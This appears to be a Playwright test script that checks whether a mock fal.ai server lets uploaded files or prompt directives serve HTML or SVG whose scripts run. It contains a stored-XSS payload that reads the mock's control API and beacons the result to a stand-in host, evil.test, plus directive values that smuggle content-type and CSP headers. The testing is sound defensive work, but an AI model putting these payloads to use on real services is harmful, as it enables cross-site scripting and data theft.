// node attack.mjs --chromium FILE --mock URL
//
// A page of http://evil.test attacks the mock-fal at URL: it submits a prompt with a directive and uploads files, both
// with a script, and opens their URLs. The script would read the control API and send what it read to evil.test. Prints
// JSON: how each URL was opened (shown or saved as a file), and what the scripts sent.
import { createServer } from 'node:http'
import { once } from 'node:events'
import { parseArgs } from 'node:util'
import { chromium } from 'playwright-core'

const text = { type: 'string' }
const { values: given } = parseArgs({ options: { chromium: text, mock: text } })

const evil = 'http://evil.test'
const script = `
  new Image().src = '${evil}/sent?origin=' + encodeURIComponent(self.origin);
  fetch('${given.mock}/_mock/requests').then((response) => response.text()).then((journal) => {
    new Image().src = '${evil}/sent?journal=' + journal.length;
  });`.replaceAll('\n', ' ')
const html = `<!doctype html><title>attack</title><script>${script}</script>`
const svg = `<svg xmlns="http://www.w3.org/2000/svg"><script>${script}</script></svg>`

const sent = []
const server = createServer((request, response) => {
  const { pathname, search } = new URL(request.url, evil)
  if (pathname === '/sent') sent.push(decodeURIComponent(search.slice(1)))
  response.setHeader('content-type', 'text/html')
  // Such a script runs on the page's own address: the test sees scripts if they run.
  response.end(pathname === '/own' ? html : '<!doctype html><title>page</title>')
})
server.listen(0, '127.0.0.1')
await once(server, 'listening')

const { HOME, PATH } = process.env
const browser = await chromium.launch({
  executablePath: given.chromium,
  args: [
    '--no-sandbox', // for whoever is root
    `--host-resolver-rules=MAP evil.test 127.0.0.1:${server.address().port}, MAP * ~NOTFOUND, EXCLUDE 127.0.0.1`,
  ],
  env: { HOME, PATH },
})
try {
  const opened = {}
  const attacks = {
    own: async () => `${evil}/own`,
    directive: (page) => page.evaluate(submit, [given.mock, '', html]),
    header: (page) => page.evaluate(submit, [given.mock, ' header.content-type=text/html header.content-disposition=inline', html]),
    policy: (page) => page.evaluate(submit, [given.mock, ' header.content-security-policy="script-src *"', html]),
    // Shown, but as JSON: a type that is harmless is not taken for another one.
    json: (page) => page.evaluate(submit, [given.mock, ' header.content-type=application/json', html]),
  }
  for (const type of ['TEXT/HTML', 'image/SVG+XML', 'text/xsl', 'application/unknown', 'unknown/unknown', 'text/plain', 'image/png']) {
    attacks[type] = (page) => page.evaluate(upload, [given.mock, type, type.includes('SVG') ? svg : html])
  }
  for (const [name, attack] of Object.entries(attacks)) {
    const page = await browser.newPage()
    await page.goto(evil)
    opened[name] = await open(page, await attack(page))
    await page.close()
  }
  console.log(JSON.stringify({ opened, sent: sent.filter((item) => item !== `origin=${evil}`), own: sent.includes(`origin=${evil}`) }))
} finally {
  await browser.close()
  server.close()
  server.closeAllConnections()
}

// Opens a URL from the page, as a link does. Resolves when it is shown, or has become a file.
async function open(page, url) {
  const saved = page.waitForEvent('download').then(() => 'saved')
  const shown = page.waitForEvent('load').then(() => 'shown')
  await page.evaluate((target) => { location.href = target }, url)
  const how = await Promise.race([saved, shown])
  if (how === 'shown') await page.waitForLoadState('networkidle')
  for (const other of [saved, shown]) other.catch(() => {}) // it ends with the page
  return how
}

// In the page: submits a prompt with a directive; returns the URL of the status, which then is the attack.
async function submit([mock, options, body]) {
  const prompt = `[mock: operation=status status=200${options} body=${JSON.stringify(body)}]`
  const response = await fetch(`${mock}/queue.fal.run/fal-ai/flux/schnell`, {
    method: 'POST',
    headers: { 'content-type': 'text/plain', authorization: 'Key a:b' },
    body: JSON.stringify({ prompt }),
  })
  return (await response.json()).status_url
}

// In the page: uploads a file; returns its URL.
async function upload([mock, type, body]) {
  const response = await fetch(`${mock}/v3b.fal.media/files/upload`, {
    method: 'POST',
    headers: { 'content-type': type, authorization: 'Key a:b' },
    body: new Blob([body]),
  })
  return (await response.json()).access_url
}
